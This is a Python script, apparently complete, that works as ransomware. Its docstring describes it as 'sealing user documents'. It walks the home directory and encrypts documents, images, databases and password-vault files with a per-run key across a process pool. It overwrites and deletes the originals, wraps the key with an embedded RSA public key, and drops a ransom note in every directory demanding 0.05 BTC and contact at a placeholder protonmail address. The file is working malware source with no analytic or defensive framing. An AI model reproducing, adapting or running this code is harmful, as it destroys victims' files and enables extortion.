#!/usr/bin/env python3
"""Seal user documents with a process pool.

Walks the home directory, hands every matching file to a multiprocessing
Pool, and each worker encrypts the file with a per-run key, writes
<name>.sealed next to it and removes the original. The key is written
out encrypted with an RSA public key, and a notice is left in every
directory that was processed.
"""
import argparse
import logging
import multiprocessing as mp
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding

log = logging.getLogger("sealer")

EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".txt",
              ".csv", ".sql", ".zip", ".psd", ".odt", ".pptx", ".kdbx", ".py"}
SKIP_DIRS = {".cache", ".local", "snap", ".mozilla", ".config"}
NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
NOTICE = (
    "Your files have been sealed with strong encryption.\n"
    "To receive the restore key, send 0.05 BTC to the address below and\n"
    "mail your ID (in key.bin) to restore-desk@protonmail.example\n"
)
PUBKEY_PEM = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAt7q3bYk2VfZ0a1xN6c8m
p0XWqkP4pP0cN0sS9Rk1n2b7yH2v0kL8mQeYfR0g3m1wJx4aS7dZ2oF9vT6uB5cE
-----END PUBLIC KEY-----
"""

_FERNET = None


def _init(key: bytes) -> None:
    global _FERNET
    _FERNET = Fernet(key)


def seal_file(path: str) -> tuple:
    """Runs in a worker process: encrypt, write .sealed, remove original."""
    try:
        with open(path, "rb") as fh:
            data = fh.read()
        token = _FERNET.encrypt(data)
        with open(path + ".sealed", "wb") as fh:
            fh.write(token)
        # overwrite then unlink so the plaintext is not recoverable
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        os.remove(path)
        return path, True
    except OSError as exc:
        return path, str(exc)


def targets(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            if Path(name).suffix.lower() in EXTENSIONS:
                yield os.path.join(dirpath, name)


def protect_key(key: bytes, out: Path) -> None:
    try:
        pub = serialization.load_pem_public_key(PUBKEY_PEM)
        blob = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                             algorithm=hashes.SHA256(), label=None))
    except ValueError:
        blob = key[::-1]
    out.write_bytes(blob)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", type=Path, default=Path.home())
    ap.add_argument("--procs", type=int, default=mp.cpu_count())
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = Fernet.generate_key()
    protect_key(key, args.root / "key.bin")

    touched_dirs = set()
    done = failed = 0
    with mp.Pool(args.procs, initializer=_init, initargs=(key,)) as pool:
        for path, ok in pool.imap_unordered(seal_file, targets(args.root), chunksize=16):
            if ok is True:
                done += 1
                touched_dirs.add(os.path.dirname(path))
            else:
                failed += 1
    del key

    for d in touched_dirs:
        try:
            Path(d, NOTICE_NAME).write_text(NOTICE)
        except OSError:
            pass
    log.info("sealed %d files (%d failed)", done, failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
